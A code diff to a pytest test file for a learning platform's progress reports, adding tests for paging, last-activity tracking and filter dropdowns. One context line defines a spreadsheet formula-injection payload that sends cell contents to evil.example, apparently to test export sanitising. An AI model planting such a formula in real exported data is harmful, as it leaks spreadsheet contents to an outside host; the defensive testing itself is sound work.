@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from datetime import UTC, datetime
 from types import SimpleNamespace
 from zoneinfo import ZoneInfo
@@ -12,9 +13,10 @@ from zoneinfo import ZoneInfo
 import openpyxl
 import pytest
 from babel.dates import format_datetime
+from sqlalchemy import select, text
 
 from courses.models import CompletionSource, Enrolment, EnrolmentStatus, LessonCompletion
-from courses.reports import Grouping, ReportFilters, report_rows, totals
+from courses.reports import Grouping, ReportFilters, report_page, report_rows, totals
 from sonores_lms.permissions import Role
 
 EVIL_FIRST = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -43,6 +45,19 @@ def _complete(db, user, course, lesson, when):
             completed_at=when,
         )
     )
+
+
+def _keep_last_activity(db):
+    """What the learning area keeps on each enrolment (and migration 0004 backfilled): its latest completion."""
+    db.session.flush()
+    db.session.execute(
+        text(
+            "UPDATE courses_enrolments SET last_activity_at = (SELECT max(c.completed_at)"
+            " FROM courses_lesson_completions c WHERE c.user_id = courses_enrolments.user_id"
+            " AND c.course_uid = courses_enrolments.course_uid)"
+        )
+    )
+    db.session.expire_all()
 
 
 @pytest.fixture
@@ -77,7 +92,7 @@ def network(db, make_plan, create_institute, create_user):
     _complete(db, alice, course2, _lessons(course2)[0], datetime(2027, 3, 4, 2, 30, tzinfo=UTC))  # her latest
     _complete(db, bob, course1, _lessons(course1)[0], datetime(2027, 2, 10, 9, 0, tzinfo=UTC))
     _complete(db, carol, course1, _lessons(course1)[1], datetime(2027, 5, 1, 9, 0, tzinfo=UTC))  # withdrawn
-    db.session.flush()
+    _keep_last_activity(db)
     return SimpleNamespace(
         plan=plan, old=old, course1=course1, course2=course2, jacmel=jacmel, merida=merida,
         alice=alice, bob=bob, carol=carol, dan=dan, eve=eve,
@@ -291,3 +306,78 @@ def test_the_admin_navigation_offers_the_reports_to_those_who_may_see_them(netwo
         page = client.get("/dashboard").get_data(as_text=True)
         assert 'href="/courses/reports/"' in page and "Progress reports" in page
     assert 'href="/courses/reports/"' not in client_as("staff").get("/dashboard").get_data(as_text=True)
+
+
+@pytest.mark.parametrize("grouping", [Grouping.PEOPLE, Grouping.INSTITUTES, Grouping.COUNTRIES])
+def test_pages_fetch_their_groups_first_and_match_the_full_report(network, db, monkeypatch, grouping):
+    """Page by page (two rows a page), people and institutes (people without an institute last) hold the same rows
+    as the export, and the row count comes from the totals."""
+    monkeypatch.setattr("courses.reports.PER_PAGE", 2)
+    n = network
+    for filters in (ReportFilters(), ReportFilters(country="HT"), ReportFilters(role=Role.TRAINER)):
+        expected = [(row.key, row.labels, row.figures) for row in report_rows(n.plan, grouping, filters)]
+        total = totals(n.plan, filters, grouping)
+        assert total.groups == len(expected)
+        seen = []
+        for number in range(1, (len(expected) + 1) // 2 + 1):
+            page = report_page(n.plan, grouping, filters, page=number, total=total.groups)
+            seen.extend((row.key, row.labels, row.figures) for row in page.items)
+            assert report_page(n.plan, grouping, filters, page=number).total == len(expected)
+        assert seen == expected, filters
+    if grouping is Grouping.INSTITUTES:
+        assert [key for key, _labels, _figures in seen] == [n.jacmel.id]  # role=trainer: bob only
+        keys = [row.key for row in report_rows(n.plan, grouping, ReportFilters())]
+        assert keys == [n.jacmel.id, n.merida.id, None]
+
+
+def test_completing_a_lesson_keeps_the_enrolments_last_activity(db, make_plan, create_user):
+    from courses.learning import complete_lesson, enrol
+
+    plan = make_plan(2027, courses=2)
+    course1, course2 = plan.axes[0].tracks[0].courses
+    user = create_user("learner@example.org")
+    enrolment = enrol(user, course1, actor=user)
+    assert enrolment.last_activity_at is None
+    first = complete_lesson(user, _lessons(course1)[0])
+    assert enrolment.last_activity_at == first.completed_at
+    complete_lesson(user, _lessons(course1)[0])  # again: nothing new
+    assert enrolment.last_activity_at == first.completed_at
+    second = complete_lesson(user, _lessons(course2)[0])  # enrols implicitly
+    started = db.session.scalars(
+        select(Enrolment).where(Enrolment.user_id == user.id, Enrolment.course_uid == course2.uid)
+    ).one()
+    assert started.last_activity_at == second.completed_at
+    row = {r.key: r for r in report_rows(plan, Grouping.COURSES, ReportFilters())}[course2.uid]
+    assert row.figures.last_activity == second.completed_at
+
+
+def _options(page, name):
+    """The option values of the select ``name`` on ``page``."""
+    select_html = re.search(rf'<select[^>]*name="{name}"[^>]*>(.*?)</select>', page, re.S).group(1)
+    return re.findall(r'<option[^>]*value="([^"]*)"', select_html)
+
+
+def test_filter_selects_list_one_country_and_one_track_when_there_are_many(network, admin_client, monkeypatch):
+    n = network
+    track = n.plan.axes[0].tracks[0]
+    ids = lambda *institutes: ["", *(str(i.id) for i in institutes)]  # noqa: E731
+    page = admin_client.get("/courses/reports/").get_data(as_text=True)  # few: every institute and course
+    assert _options(page, "institute") == ids(n.jacmel, n.merida)
+    assert _options(page, "course") == ["", n.course1.uid, n.course2.uid]
+    assert "Choose a country to list its institutes." not in page
+
+    monkeypatch.setattr("courses.views.reports.MAX_LISTED", 1)
+    monkeypatch.setattr("courses.views.reports.MAX_COURSES_LISTED", 1)
+    page = admin_client.get("/courses/reports/").get_data(as_text=True)
+    assert _options(page, "institute") == [""] and _options(page, "course") == [""]
+    assert "Choose a country to list its institutes." in page and "Choose a track to list its courses." in page
+    page = admin_client.get("/courses/reports/?country=MX").get_data(as_text=True)
+    assert _options(page, "institute") == ids(n.merida)
+    page = admin_client.get(f"/courses/reports/?track={track.uid}").get_data(as_text=True)
+    assert _options(page, "course") == ["", n.course1.uid, n.course2.uid]
+    # Links to one institute or one course keep working: the chosen one stays a choice.
+    response = admin_client.get(f"/courses/reports/people?institute={n.jacmel.id}&course={n.course1.uid}")
+    page = response.get_data(as_text=True)
+    assert response.status_code == 200
+    assert _options(page, "institute") == ids(n.jacmel) and _options(page, "course") == ["", n.course1.uid]
+    assert "Bernard" in page and "Durand" not in page
